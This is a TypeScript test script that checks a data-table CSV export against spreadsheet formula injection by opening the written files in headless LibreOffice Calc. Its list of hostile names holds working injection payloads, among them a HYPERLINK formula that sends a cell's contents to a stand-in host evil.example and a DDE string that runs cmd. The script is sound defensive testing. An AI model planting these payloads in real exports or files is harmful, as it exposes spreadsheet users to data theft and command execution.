import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import {
  csvHeader,
  csvRecords,
  neutralise,
  UTF8_BOM,
} from '../src/components/data-table/export/csv';

/**
 * `npm run test:spreadsheet` (opt-in, not in `npm test`: it needs LibreOffice, about 300 MB):
 * files written by the export's real CSV writer, opened by a real spreadsheet, LibreOffice Calc
 * headless, split on commas (the file's own separator) and on semicolons (what Excel does in
 * de/fr/es/it/nl locales), must hold no formula cell, and the text must arrive as written.
 *
 * So that the check cannot pass by being blind, the same names written by the rule before issue
 * 22 (the first character only) must come out as formulas.
 */

const SEPARATORS = [
  { name: 'comma', code: 44 },
  { name: 'semicolon', code: 59 },
] as const;

/** Names a hostile API could send: issue 22's, OWASP's, and ordinary ones that must not change. */
const HOSTILE_NAMES = [
  '\u0000=HYPERLINK("http://evil.example/?"&B3,"Open")',
  '\u0000\u0000=1+1',
  'x;=1+1;',
  "x;=cmd|' /C calc'!A0;",
  'a\n=1+1;',
  '\r=1+1',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  ' =1+1',
  '\u001f-1+1',
  'a,=1+1',
  'a\r\n@SUM(1+1)',
  'x; "=1+1',
  '"=1+1;"',
];
const ORDINARY_NAMES = ['Jean-Luc Picard', "Máire O'Brien", 'Grace Hopper', 'Quote "the" Comma, P'];

interface Cell {
  formula: string | undefined;
  type: string | undefined;
  value: string | undefined;
  text: string;
}

// eslint-disable-next-line no-control-regex -- control characters are what it looks for
const SKIPPED = /^[\s\x00-\x1f\x7f"]*/;
const FORMULA_START = /^[=+\-@]/;

function main() {
  const soffice = findOrInstallSoffice();
  const work = mkdtempSync(join(tmpdir(), 'spreadsheet-check-'));
  const problems: string[] = [];
  try {
    const users = [...HOSTILE_NAMES, ...ORDINARY_NAMES].map((name, index) => ({
      id: `user_${index}`,
      name,
      email: `user${index}@example.com`,
      created_at: '2024-02-29T23:59:59Z',
    }));
    const userFields = ['id', 'name', 'email', 'created_at'] as const;
    const products = [-5, 19.99, 0.1, 1e21, 1234567.5].map((price, index) => ({
      id: `prod_${index}`,
      name: HOSTILE_NAMES[index]!,
      category: 'Home & Garden',
      price,
      description: HOSTILE_NAMES[HOSTILE_NAMES.length - 1 - index]!,
    }));
    const productFields = ['id', 'name', 'category', 'price', 'description'] as const;
    writeFileSync(
      join(work, 'users.csv'),
      UTF8_BOM + csvHeader(userFields) + csvRecords(users, userFields),
    );
    writeFileSync(
      join(work, 'products.csv'),
      UTF8_BOM + csvHeader(productFields) + csvRecords(products, productFields),
    );
    writeFileSync(join(work, 'old-rule.csv'), UTF8_BOM + oldRuleFile(HOSTILE_NAMES));

    for (const separator of SEPARATORS) {
      const sheets = convert(soffice, work, separator.code, [
        'users.csv',
        'products.csv',
        'old-rule.csv',
      ]);
      const [userRows, productRows, oldRows] = sheets as [Cell[][], Cell[][], Cell[][]];
      const where = `(${separator.name})`;

      for (const [file, rows] of [
        ['users.csv', userRows],
        ['products.csv', productRows],
      ] as const) {
        rows.forEach((row, rowIndex) =>
          row.forEach((cell, column) => {
            const at = `${file} row ${rowIndex + 1} column ${column + 1} ${where}`;
            if (cell.formula !== undefined) problems.push(`${at}: formula ${cell.formula}`);
            const start = cell.text.replace(SKIPPED, '');
            if (cell.type === 'string' && FORMULA_START.test(start)) {
              problems.push(`${at}: text starts unguarded: ${JSON.stringify(cell.text)}`);
            }
          }),
        );
      }

      if (separator.name === 'comma') {
        // Split as written: every cell as the writer meant it, numbers as numbers.
        const expected = [
          [...userFields],
          ...users.map((user) => userFields.map((field) => shown(neutralise(user[field])))),
        ];
        const got = userRows.map((row) => row.map((cell) => cell.text));
        if (JSON.stringify(got) !== JSON.stringify(expected)) {
          problems.push(
            `users.csv ${where}: cells differ\n  got      ${JSON.stringify(got)}\n  expected ${JSON.stringify(expected)}`,
          );
        }
        productRows.slice(1).forEach((row, index) => {
          const price = row[3];
          const want = products[index]!.price;
          if (price?.type !== 'float' || Number(price.value) !== want) {
            problems.push(
              `products.csv row ${index + 2} ${where}: price ${JSON.stringify(price)} is not the number ${want}`,
            );
          }
        });
      }

      // LibreOffice 7.4 makes 2 formulas of them split on commas, 4 on semicolons.
      const oldFormulas = oldRows.flat().filter((cell) => cell.formula !== undefined).length;
      if (oldFormulas === 0) {
        problems.push(
          `old-rule.csv ${where}: no formula from the old rule's file: the check is blind`,
        );
      }
      const exportFormulas = [...userRows, ...productRows]
        .flat()
        .filter((cell) => cell.formula !== undefined).length;
      console.log(
        `${separator.name}: ${userRows.length + productRows.length} rows read; ` +
          `formula cells: ${exportFormulas} from the export, ${oldFormulas} from the old rule`,
      );
    }
  } finally {
    rmSync(work, { recursive: true, force: true });
  }
  if (problems.length > 0) {
    console.error(`Spreadsheet check failed:\n${problems.join('\n')}`);
    process.exit(1);
  }
  console.log(
    'Spreadsheet check passed: no formula cell on either split; split on commas, every cell as written and prices as numbers.',
  );
}

/** The writer's rule before issue 22: a guard on the first character only, quotes if needed. */
function oldRuleFile(names: readonly string[]): string {
  const field = (value: string) => {
    const text = /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
    return /[",\r\n]/.test(text) || text !== value ? `"${text.replace(/"/g, '""')}"` : text;
  };
  return 'id,name\r\n' + names.map((name, index) => `u${index},${field(name)}\r\n`).join('');
}

/** Text as LibreOffice shows it: line breaks as paragraphs, no control characters. */
function shown(text: string): string {
  // eslint-disable-next-line no-control-regex -- control characters are what it looks for
  return text.replace(/\r\n?/g, '\n').replace(/[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]/g, '');
}

function convert(soffice: string, work: string, separator: number, files: string[]): Cell[][][] {
  const outDir = join(work, `out-${separator}`);
  mkdirSync(outDir);
  const result = spawnSync(
    soffice,
    [
      // A profile of its own: no clash with a LibreOffice the person has open.
      `-env:UserInstallation=${pathToFileURL(join(work, 'profile')).href}`,
      '--headless',
      `--infilter=CSV:${separator},34,76,1`,
      '--convert-to',
      'fods',
      '--outdir',
      outDir,
      ...files.map((file) => join(work, file)),
    ],
    { encoding: 'utf8', timeout: 300_000 },
  );
  return files.map((file) => {
    const fods = join(outDir, file.replace(/\.csv$/, '.fods'));
    if (!existsSync(fods)) {
      throw new Error(`LibreOffice did not convert ${file}:\n${result.stdout}\n${result.stderr}`);
    }
    return readCells(readFileSync(fods, 'utf8'));
  });
}

/** The first sheet's rows of cells from a flat OpenDocument spreadsheet. */
export function readCells(fods: string): Cell[][] {
  const rows: Cell[][] = [];
  for (const [, rowXml = ''] of fods.matchAll(
    /<table:table-row\b[^>]*>([\s\S]*?)<\/table:table-row>/g,
  )) {
    const cells: Cell[] = [];
    for (const [, attributes = '', body = ''] of rowXml.matchAll(
      /<table:(?:covered-)?table-cell\b([^>]*?)(?:\/>|>([\s\S]*?)<\/table:(?:covered-)?table-cell>)/g,
    )) {
      const attribute = (name: string) => new RegExp(`\\b${name}="([^"]*)"`).exec(attributes)?.[1];
      const repeat = Number(attribute('table:number-columns-repeated') ?? 1);
      const paragraphs = [
        ...body.matchAll(/<text:p\b[^>]*>([\s\S]*?)<\/text:p>|<text:p\b[^>]*\/>/g),
      ];
      const cell = {
        formula: attribute('table:formula'),
        type: attribute('office:value-type'),
        value: attribute('office:value'),
        text: paragraphs.map(([, inner = '']) => paragraphText(inner)).join('\n'),
      };
      // Trailing empty cells LibreOffice repeats to the sheet's edge are not data.
      if (cell.type === undefined && cell.text === '' && repeat > 1) continue;
      cells.push(cell);
    }
    rows.push(cells);
  }
  return rows;
}

function paragraphText(xml: string): string {
  return xml
    .replace(/<text:s\b[^>]*?(?:text:c="(\d+)")?[^>]*\/>/g, (_, count?: string) =>
      ' '.repeat(Number(count ?? 1)),
    )
    .replace(/<text:tab\b[^>]*\/>/g, '\t')
    .replace(/<text:line-break\b[^>]*\/>/g, '\n')
    .replace(/<[^>]+>/g, '')
    .replace(/&(lt|gt|amp|quot|apos|#x[0-9a-f]+|#\d+);/gi, (_, entity: string) => {
      const named: Record<string, string> = { lt: '<', gt: '>', amp: '&', quot: '"', apos: "'" };
      if (entity[0] !== '#') return named[entity.toLowerCase()] ?? '';
      const code = entity[1] === 'x' ? parseInt(entity.slice(2), 16) : Number(entity.slice(1));
      return String.fromCodePoint(code);
    });
}

/** LibreOffice's `soffice`, installed from Debian's packages when this runs as root. */
function findOrInstallSoffice(): string {
  const found = () => spawnSync('soffice', ['--version'], { encoding: 'utf8' }).status === 0;
  if (found()) return 'soffice';
  if (process.getuid?.() !== 0 || !existsSync('/usr/bin/apt-get')) {
    console.error(
      'test:spreadsheet needs LibreOffice Calc: install it (Debian/Ubuntu: sudo apt-get install libreoffice-calc) and run again.',
    );
    process.exit(1);
  }
  console.log('Installing libreoffice-calc from Debian’s packages (several minutes)…');
  const install = () =>
    spawnSync('apt-get', ['install', '-y', '--no-install-recommends', 'libreoffice-calc'], {
      stdio: 'inherit',
      env: { ...process.env, DEBIAN_FRONTEND: 'noninteractive' },
    }).status === 0;
  // A fresh container has no package lists yet: fetch them once, then try again.
  if (
    !install() &&
    !(spawnSync('apt-get', ['update'], { stdio: 'inherit' }).status === 0 && install())
  ) {
    console.error('Could not install libreoffice-calc with apt-get.');
    process.exit(1);
  }
  if (!found()) throw new Error('libreoffice-calc is installed but soffice does not run.');
  return 'soffice';
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) main();
